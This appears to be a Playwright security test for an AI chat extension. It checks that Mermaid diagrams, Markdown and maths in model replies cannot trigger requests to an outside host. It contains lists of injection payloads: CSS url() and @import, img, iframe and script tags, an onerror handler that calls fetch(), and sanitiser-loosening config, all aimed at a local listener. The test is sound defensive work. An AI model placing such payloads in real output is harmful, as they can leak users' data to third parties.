import type { Locator } from '@playwright/test';

import type { Chat } from '../chat';
import { expect, test } from '../chat';
import { Listener } from '../listener';
import { Timeline } from '../timeline';
import { LONG_ONLY } from '../longtests';

const DOT =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/**
 * Diagrams that are drawn, and would fetch something if they could.
 */
const DRAWN = (at: string): readonly string[] => [
  `%%{init: {"themeCSS": "span{background-image:url(${at}/css)}"}}%%\nflowchart LR\n A-->B`,
  `%%{init: {"themeCSS": "@import url(${at}/import);"}}%%\nflowchart LR\n A-->B`,
  `%%{init: {"themeCSS": "@font-face{font-family:f;src:url(${at}/font)} *{font-family:f!important}"}}%%\nflowchart LR\n A-->B`,
  `---\nconfig:\n  themeCSS: "g{background:url(${at}/front)} .node rect{fill:url(${at}/fill#a)}"\n---\nflowchart LR\n A-->B`,
  `%%{init: {"fontFamily": "x;background:url(${at}/family)"}}%%\nflowchart LR\n A-->B`,
  `flowchart LR\n A["<img src='${at}/label'>"]-->B`,
  `flowchart LR\n A["<div style='background:url(${at}/div)'>x</div>"]-->B`,
  `flowchart LR\n A["\`![x](${at}/markdown)\`"]-->B`,
  `flowchart LR\n A-->B\n click A "${at}/click" _self`,
  `flowchart LR\n A["<video autoplay src='${at}/video'></video>"]-->B`,
  `flowchart LR\n A["<iframe src='${at}/iframe'></iframe>"]-->B`,
  `flowchart LR\n A["<svg><image href='${at}/image'/></svg>"]-->B`,
  `flowchart LR\n A["<link rel='stylesheet' href='${at}/sheet'>"]-->B`,
  `%%{init: {"securityLevel":"loose","htmlLabels":true,"secure":[]}}%%\nflowchart LR\n A["<img src='${at}/loose' onerror='fetch(\`${at}/script\`)'>"]-->B`,
  `%%{init: {"dompurifyConfig":{"ADD_TAGS":["img","iframe"],"ADD_ATTR":["onerror"]}}}%%\nflowchart LR\n A["<img src='${at}/purify'>"]-->B`,
  `sequenceDiagram\n participant A\n links A: {"x": "${at}/links"}\n A->>B: <img src='${at}/sequence'>`,
  `stateDiagram-v2\n [*] --> A\n A : <img src='${at}/state'>`,
  `flowchart LR\n A["$$\\includegraphics{${at}/katex} x^2$$"]-->B`
];

/**
 * Diagrams that are not drawn: what they want cannot be had, or Mermaid takes
 * no such thing.
 */
const REFUSED = (at: string): readonly string[] => [
  `flowchart LR\n A@{ img: "${at}/img?secret", label: "plot", w: 60, h: 60 }-->B`,
  `flowchart LR\n A@{ img: "//${at.slice(7)}/relative", w: 60, h: 60 }-->B`,
  `%%{init: {"theme":"base","themeVariables": {"primaryColor": "url(${at}/variable)"}}}%%\nflowchart LR\n A-->B`,
  `flowchart LR\n A-->B\n style A fill:url(${at}/style),background:url(${at}/background)`,
  `flowchart LR\n A:::x-->B\n classDef x fill:#eee,background-image:url(${at}/class)`,
  `flowchart LR\n A-->B\n linkStyle 0 stroke:url(${at}/link),marker:url(${at}/marker)`,
  `classDiagram\n class A\n link A "${at}/classlink"\n A : <img src='${at}/member'>`,
  `mindmap\n root((x))\n  ::icon(x;background:url(${at}/icon))\n  a`
];

/**
 * Markdown that would fetch something.
 */
const MARKDOWN = (at: string): readonly string[] => [
  `![plot](${at}/inline?secret)`,
  `![plot][ref]\n\n[ref]: ${at}/reference`,
  `[![plot](${at}/linked)](${at}/behind)`,
  `<img src="${at}/html" srcset="${at}/set 2x">`,
  `<img src="${DOT}" srcset="${DOT} 1x, ${at}/mixed 2x">`,
  `<picture><source srcset="${at}/picture"><img src="${at}/pictured"></picture>`,
  `<video autoplay src="${at}/video" poster="${at}/poster"></video>`,
  `<audio autoplay src="${at}/audio"></audio>`,
  `<iframe src="${at}/iframe"></iframe>`,
  `<object data="${at}/object"></object><embed src="${at}/embed">`,
  `<link rel="stylesheet" href="${at}/sheet"><link rel="prefetch" href="${at}/prefetch">`,
  `<link rel="preconnect" href="${at}">`,
  `<style>@import url(${at}/import); body { background: url(${at}/body) }</style>`,
  `<div style="background-image: url('${at}/style')">x</div>`,
  `<div style="background-image: \\75rl(${at}/escaped)">x</div>`,
  `<svg><image href="${at}/svg"/><use href="${at}/use#a"/></svg>`,
  `<table background="${at}/table"><tr><td background="${at}/cell">x</td></tr></table>`,
  `<input type="image" src="${at}/input">`,
  `<form action="${at}/form"><button>Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
  `<script src="${at}/script"></script>`,
  `<base href="${at}/base/">`,
  `$\\style{background-image:url(${at}/maths)}{x}$ and $\\href{${at}/href}{y}$`,
  `$$\\class{x}{\\cssId{y}{\\style{background:url(${at}/display)}{z}}}$$`
];

const GOOD = [
  'flowchart LR\n  Load["Load <b>data</b>"] --> Clean{Clean?} -->|yes| Plot((Plot))\n  Clean -->|no| Drop',
  'sequenceDiagram\n  accTitle: A question\n  accDescr: What a page asks a server\n  Page->>Server: What is new?\n  Server-->>Page: Nothing',
  'pie title Rows\n  "kept" : 80\n  "dropped" : 20'
] as const;

const fenced = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;

let listener: Listener;

test.beforeEach(async () => {
  listener = await Listener.start();
});

test.afterEach(async () => {
  await listener.stop();
});

test('nothing that is drawn asks anybody for anything', async ({
  chat,
  complaints,
  lab,
  model
}) => {
  test.slow();
  listener.watch(lab.page);
  const at = listener.url;
  await lab.api.change({
    autoApprovalEnabled: true,
    alwaysAllowReadOnly: true,
    alwaysAllowWrite: true
  });
  await chat.begin('Draw them all.');
  await model.call('write_to_file', {
    path: 'drawn.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60"><style>@import url(${at}/file)</style><image href="${at}/fileimage" width="60" height="60"/><rect width="30" height="30" fill="green"/></svg>`
  });
  await model.call('write_to_file', {
    path: 'drawn.md',
    content: MARKDOWN(at).join('\n\n')
  });
  const sources = [...DRAWN(at), ...REFUSED(at)];
  await chat.finish(
    model,
    [...MARKDOWN(at), ...sources.map(fenced)].join('\n\n')
  );

  const drawn = chat.feed.locator('.jp-RenderedMermaid');
  await expect(drawn).toHaveCount(sources.length);
  await expect(chat.feed.locator('.jp-RenderedMermaid img')).toHaveCount(
    DRAWN(at).length
  );
  await expect(drawn.filter({ has: lab.page.locator('details') })).toHaveCount(
    REFUSED(at).length
  );
  // Maths is set after the rest.
  await expect(
    chat.feed.locator('mjx-container, .MathJax').first()
  ).toBeAttached();
  await chat.feed.evaluate(box => {
    box.scrollTop = 0;
  });
  await expectLinksToBeApart(chat.feed);

  await test.step('the time line', async () => {
    const line = new Timeline(lab);
    await line.open();
    const row = line.rows.filter({ hasText: 'Edited drawn.' });
    // The newest are of this story; other stories may have left theirs below.
    const [text, drawing] = [row.nth(0), row.nth(1)];
    await text.getByRole('button').first().click();
    await expect(text).toContainText('/inline?secret');
    await drawing.getByRole('button').first().click();
    const picture = drawing.locator('figure img');
    await expect(picture).toHaveJSProperty('complete', true);
    await expect(picture).not.toHaveJSProperty('naturalWidth', 0);
  });

  await test.step('what the model sees', async () => {
    await chat.button('Details of this conversation').click();
    await chat.button('What the model sees').click();
    await expect(
      lab.page.getByRole('article').filter({ hasText: 'drawn.md' }).first()
    ).toBeVisible();
  });

  // In another theme all of them would be drawn anew.
  await lab.picture('payloads', ['light']);
  // What was asked for late would have come by now: this comes after it.
  const before = listener.connections;
  expect({ heard: listener.heard, sent: listener.sent, before }).toEqual({
    heard: [],
    sent: [],
    before: 0
  });
  await lab.page.evaluate(async url => {
    await fetch(`${url}/control`);
    const image = new Image();
    image.src = `${url}/picture`;
    await image.decode().catch(() => undefined);
  }, at);
  expect(listener.heard).toEqual(['/control', '/picture']);
  await expect.poll(() => listener.sent.length).toBe(2);
  forgetRefusals(complaints);
});

test(
  'diagrams look as they should, in light and in dark',
  { tag: LONG_ONLY },
  async ({ chat, lab, model }) => {
    await chat.begin('Draw.');
    await chat.finish(model, GOOD.map(fenced).join('\n\n'));
    const images = chat.feed.locator('.jp-RenderedMermaid img');
    await expect(images).toHaveCount(GOOD.length);
    expect(await sizes(images)).toEqual(GOOD.map(() => true));
    await expect(images.nth(1)).toHaveAttribute('alt', 'A question');
    await chat.feed.evaluate(box => {
      box.scrollTop = 0;
    });
    await lab.picture('diagrams', ['light']);
    const light = await images.first().getAttribute('src');

    await lab.wear('dark');
    await expect(images.first()).not.toHaveAttribute('src', light ?? '');
    expect(await sizes(images)).toEqual(GOOD.map(() => true));
    await lab.picture('diagrams-dark', ['dark']);
    await chat.button('Enlarge this diagram').first().press('Enter');
    await expect(chat.dialog.locator('img')).toBeVisible();
    await lab.picture('diagram-large-dark', ['dark']);
    await lab.page.keyboard.press('Escape');
    await lab.wear('light');
    await expect(images.first()).toHaveAttribute('src', light ?? '');
  }
);

/**
 * Whether each picture is one, of some size.
 */
async function sizes(images: Locator): Promise<boolean[]> {
  return images.evaluateAll(async nodes =>
    Promise.all(
      nodes.map(async node => {
        const image = node as HTMLImageElement;
        await image.decode();
        return image.naturalWidth > 50 && image.naturalHeight > 50;
      })
    )
  );
}

async function expectLinksToBeApart(feed: Chat['feed']): Promise<void> {
  const links = feed.locator('.jp-RenderedMarkdown a[href^="http"]');
  await expect(links.first()).toBeAttached();
  const together = () =>
    links.evaluateAll(nodes =>
      nodes
        .map(node => node as HTMLAnchorElement)
        .filter(
          ({ target, rel, referrerPolicy, title, href }) =>
            target !== '_blank' ||
            !/noopener/.test(rel) ||
            referrerPolicy !== 'no-referrer' ||
            title !== href
        )
        .map(({ outerHTML }) => outerHTML)
    );
  await expect.poll(together).toEqual([]);
}

/**
 * A browser writes down what a frame's policy forbids: it must not complain of
 * anything else.
 */
function forgetRefusals(complaints: string[]): void {
  const others = complaints.filter(
    text => !/Content Security Policy/.test(text)
  );
  complaints.splice(0, complaints.length, ...others);
}
